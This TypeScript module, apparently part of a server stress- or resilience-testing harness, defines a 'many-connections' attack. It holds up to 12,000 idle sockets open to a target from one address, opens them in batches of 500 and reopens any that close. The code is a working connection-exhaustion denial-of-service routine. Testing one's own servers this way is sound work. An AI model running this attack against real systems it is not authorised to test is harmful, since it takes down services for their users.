/** As many connections as there may be, from one address, that say nothing. */
import type { Attack } from './attack.ts'
import { openSocket, pause } from './sockets.ts'

const connections = 12_000

/** Opened in one go, so that none is refused by a full queue. */
const batch = 500

export const manyConnections: Attack = {
  name: 'many-connections',
  about: `${connections} connections from one address that send nothing; closed ones are opened again`,
  async run(target, signal) {
    let sockets: ReturnType<typeof openSocket>[] = []
    while (!signal.aborted) {
      sockets = sockets.filter((socket) => !socket.destroyed)
      const missing = Math.min(batch, connections - sockets.length)
      for (let count = 0; count < missing; count++) sockets.push(openSocket(target).resume())
      await pause(100, signal)
    }
  },
}
